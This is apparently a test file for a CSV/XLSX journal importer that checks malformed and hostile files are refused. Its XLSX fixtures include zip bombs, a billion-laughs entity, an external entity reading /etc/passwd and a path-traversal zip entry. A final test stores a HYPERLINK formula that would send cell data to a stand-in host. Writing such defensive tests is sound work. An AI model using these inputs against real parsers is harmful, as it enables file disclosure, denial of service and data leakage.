import { once } from 'node:events';
import { chmodSync, createWriteStream, mkdirSync } from 'node:fs';
import { afterAll, describe, expect, it } from 'vitest';
import { mapRow } from '../../shared/domain/imports/map-row';
import { journalFolder, readJournal } from '../support/journal-file';
import { makeZip, workbookEntries, type ZipEntry } from '../support/make-zip';
import { shippedMapping } from '../support/shipped-mapping';

const folder = journalFolder();
afterAll(() => folder.remove());

const MIB = 1024 * 1024;
const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const ROWS = '<row><c t="inlineStr"><is><t>a</t></is></c></row><row><c><v>1</v></c></row>';
const sheetOf = (body: string, before = '') =>
  `${before}<worksheet xmlns="${MAIN}"><sheetData>${body}</sheetData></worksheet>`;

/** Writes a large file piece by piece. */
async function writeLarge(name: string, head: string, piece: Buffer, times: number): Promise<string> {
  const path = folder.path(name);
  const file = createWriteStream(path);
  file.write(head);
  for (let i = 0; i < times; i++) if (!file.write(piece)) await once(file, 'drain');
  file.end();
  await once(file, 'finish');
  return path;
}

describe('CSV that cannot be a journal is refused with the line', () => {
  it.each([
    ['an unclosed quote', 'id,text\n1,a\n2,"b\n3,c\n', { code: 'MALFORMED_CSV', line: 3 }],
    ['text after a closing quote', 'id,text\n1,"a"b\n', { code: 'MALFORMED_CSV', line: 2 }],
    ['more cells than headings', 'id,text\n1,a\n2,b,c\n', { code: 'MALFORMED_CSV', line: 3 }],
    ['nothing', '', { code: 'EMPTY_FILE' }],
    ['a mark and nothing', '\ufeff', { code: 'EMPTY_FILE' }],
    ['empty lines', '\n\n \n', { code: 'EMPTY_FILE' }],
    ['zero bytes', 'id,text\n1,\u0000\n', { code: 'WRONG_ENCODING', line: 2 }],
    ['UTF-16', Buffer.from('id,text\n1,а\n', 'utf16le'), { code: 'WRONG_ENCODING', line: 1 }],
    [
      'UTF-8 with one broken letter',
      Buffer.concat([Buffer.from('id,text\n1,Обращение жителей\n2,'), Buffer.from([0xd0, 0x20, 0x0a])]),
      { code: 'WRONG_ENCODING', line: 3 },
    ],
    [
      'the same with old Macintosh lines',
      Buffer.concat([
        Buffer.from('id,text\r1,Обращение\r2,'),
        Buffer.from([0xd0, 0x0d]),
        Buffer.from('3,я\r'),
      ]),
      { code: 'WRONG_ENCODING', line: 3 },
    ],
    [
      'UTF-8 cut in the middle of a letter',
      Buffer.from('id,text\n1,Обращение').subarray(0, -1),
      { code: 'WRONG_ENCODING', line: 2 },
    ],
    [
      'a byte that windows-1251 does not know',
      Buffer.concat([Buffer.from('id,text\n1,'), Buffer.from([0xcf, 0xf0, 0x98, 0x0a])]),
      { code: 'WRONG_ENCODING', line: 2 },
    ],
    [
      'overlong UTF-8 after a mark',
      Buffer.concat([Buffer.from('\ufeffid\n'), Buffer.from([0xc0, 0xaf, 0x0a])]),
      { code: 'WRONG_ENCODING', line: 2 },
    ],
    [
      'a surrogate half in UTF-8 after a mark',
      Buffer.concat([Buffer.from('\ufeffid\n'), Buffer.from([0xed, 0xa0, 0x80, 0x0a])]),
      { code: 'WRONG_ENCODING', line: 2 },
    ],
  ])('%s', async (_, content, error) => {
    await expect(readJournal(folder.write(content))).rejects.toMatchObject(error);
  });

  it.each([
    ['windows-1251 named UTF-8', Buffer.from([0x69, 0x0a, 0xcf, 0xf0]), 'utf-8', 2],
    ['UTF-8 named windows-1251', Buffer.from('id\nи\n'), 'windows-1251', 2],
    ['UTF-8 with its mark named windows-1251', Buffer.from('\ufeffid\n1\n'), 'windows-1251', 1],
  ] as const)('%s', async (_, content, encoding, line) => {
    const error = { code: 'WRONG_ENCODING', line };
    await expect(readJournal(folder.write(content), { encoding })).rejects.toMatchObject(error);
  });

  it('a line of 200 MB, in no more memory than a short one', async () => {
    const path = await writeLarge('line.csv', 'id,text\n1,', Buffer.alloc(MIB, 'x'), 200);
    const before = process.memoryUsage().rss;
    await expect(readJournal(path)).rejects.toMatchObject({ code: 'LINE_TOO_LONG', line: 2 });
    expect(process.memoryUsage().rss - before).toBeLessThan(60 * MIB);
  }, 120_000);

  it('a quote that swallows 200 MB of lines', async () => {
    const lines = Buffer.from('x'.repeat(1023).concat('\n').repeat(1024));
    const path = await writeLarge('quote.csv', 'id,text\n1,a\n2,"', lines, 200);
    await expect(readJournal(path)).rejects.toMatchObject({ code: 'MALFORMED_CSV', line: 3 });
  }, 120_000);

  it.each([
    ['no such file', () => folder.path('none.csv')],
    [
      'a folder',
      () => {
        mkdirSync(folder.path('folder'));
        return folder.path('folder');
      },
    ],
  ])('%s', async (_, path) => {
    await expect(readJournal(path())).rejects.toMatchObject({ code: 'FILE_UNREADABLE' });
  });

  it.skipIf(process.getuid?.() === 0)('a file that may not be read', async () => {
    const path = folder.write('id\n1\n');
    chmodSync(path, 0);
    await expect(readJournal(path)).rejects.toMatchObject({ code: 'FILE_UNREADABLE' });
  });
});

describe('XLSX that cannot be a journal is refused', () => {
  const withSheet = (sheet: string | Uint8Array): ZipEntry[] =>
    workbookEntries({}).map(entry => (entry.name.endsWith('sheet1.xml') ? { ...entry, data: sheet } : entry));

  it('a bomb: 300 MB of spaces in one entry', async () => {
    const spaces = Buffer.alloc(300 * MIB, ' ');
    const path = folder.write(makeZip(withSheet(Buffer.concat([Buffer.from(sheetOf(ROWS)), spaces]))));
    await expect(readJournal(path)).rejects.toMatchObject({ code: 'ZIP_BOMB' });
  }, 60_000);

  it('a bomb in an entry that nobody reads', async () => {
    const bomb = { name: 'xl/media/image1.png', data: Buffer.alloc(50 * MIB) };
    const path = folder.write(makeZip([...workbookEntries({ rows: ROWS }), bomb]));
    await expect(readJournal(path)).rejects.toMatchObject({ code: 'ZIP_BOMB' });
  });

  it('a bomb that declares a small size', async () => {
    const sheet = Buffer.from(sheetOf(ROWS.repeat(20_000)));
    const entries = withSheet(sheet).map(entry =>
      entry.name.endsWith('sheet1.xml') ? { ...entry, declaredSize: 1000 } : entry,
    );
    await expect(readJournal(folder.write(makeZip(entries)))).rejects.toMatchObject({ code: 'ZIP_BOMB' });
  });

  it('a bomb of many entries that declare a gigabyte together', async () => {
    const stored = { data: 'x', stored: true, declaredSize: 0x7fff_ffff };
    const path = folder.write(makeZip([{ name: 'a', ...stored }]));
    await expect(readJournal(path)).rejects.toMatchObject({
      code: expect.stringMatching(/ZIP_BOMB|MALFORMED_XLSX/),
    });
    const many = Array.from({ length: 10_001 }, (_, i) => ({ name: `f${i}`, data: '' }));
    await expect(readJournal(folder.write(makeZip(many)))).rejects.toMatchObject({ code: 'ZIP_BOMB' });
    // Each of them small enough to pass, beside a sheet that would be read.
    const each = Array.from({ length: 1_100 }, (_, i) => ({ name: `g${i}`, data: '', declaredSize: MIB }));
    const together = makeZip([...workbookEntries({ rows: ROWS }), ...each]);
    await expect(readJournal(folder.write(together))).rejects.toMatchObject({ code: 'ZIP_BOMB' });
  });

  it.each([
    [
      'an entity that multiplies (a billion laughs)',
      sheetOf(
        '<row><c t="inlineStr"><is><t>&c;</t></is></c></row>',
        '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]>',
      ),
    ],
    [
      'an entity that reads a file',
      sheetOf(
        '<row><c t="inlineStr"><is><t>&f;</t></is></c></row>',
        '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>',
      ),
    ],
    ['a document type alone', sheetOf(ROWS, '<!DOCTYPE x>')],
    ['an entity that nobody declared', sheetOf('<row><c t="str"><v>&nbsp;</v></c></row>')],
    ['XML that breaks off', sheetOf(ROWS).slice(0, -20)],
    ['no XML', 'id;text\n1;2\n'],
    ['a reference beyond the shared strings', sheetOf('<row><c t="s"><v>5</v></c></row>')],
    ['a column beyond the last', sheetOf('<row><c r="ZZZZ1"><v>5</v></c></row>')],
    ['a number that is none', sheetOf('<row><c><v>1e999</v></c></row>')],
    ['a row number that is none', sheetOf('<row r="-1"><c><v>1</v></c></row>')],
    ['UTF-16', Buffer.from(sheetOf(ROWS), 'utf16le')],
  ])('%s', async (_, sheet) => {
    const path = folder.write(makeZip(withSheet(sheet)));
    await expect(readJournal(path)).rejects.toMatchObject({ code: 'MALFORMED_XLSX' });
  });

  it('one cell of 3 MB', async () => {
    const noise = Array.from({ length: 3 * MIB }, (_, i) =>
      String.fromCharCode(97 + ((i * i * 31) % 26)),
    ).join('');
    const sheet = sheetOf(`${ROWS}<row r="9"><c t="str"><v>${noise}</v></c></row>`);
    const entries = withSheet(sheet).map(entry => ({ ...entry, stored: true }));
    await expect(readJournal(folder.write(makeZip(entries)))).rejects.toMatchObject({
      code: 'LINE_TOO_LONG',
    });
  });

  it.each([
    ['an empty sheet', makeZip(workbookEntries({ rows: '' })), 'EMPTY_FILE'],
    ['an archive of something else', makeZip([{ name: 'readme.txt', data: 'x' }]), 'MALFORMED_XLSX'],
    ['half an archive', makeZip(workbookEntries({ rows: ROWS })).subarray(0, 300), 'MALFORMED_XLSX'],
    ['a path that leaves the archive', makeZip([{ name: '../../etc/x', data: 'x' }]), 'MALFORMED_XLSX'],
    ['an old .xls or a workbook behind a password', Buffer.from('d0cf11e0a1b11ae1', 'hex'), 'MALFORMED_XLSX'],
  ])('%s', async (_, bytes, code) => {
    await expect(readJournal(folder.write(bytes))).rejects.toMatchObject({ code });
  });
});

it('a formula in a journal is data: it is stored as it stands and does nothing', async () => {
  const formula = '=HYPERLINK(""http://x.test?""&A1)';
  const path = folder.write(`external_id,received_on,surname,text\n1,15.01.2026,=1+1,"${formula}"\n`);
  const { rows } = await readJournal(path);
  const mapped = mapRow(shippedMapping('plain'), rows[0]?.cells ?? {});
  expect(mapped.ok && [mapped.row.text, mapped.row.applicant?.surname]).toEqual([
    '=HYPERLINK("http://x.test?"&A1)',
    '=1+1',
  ]);
});
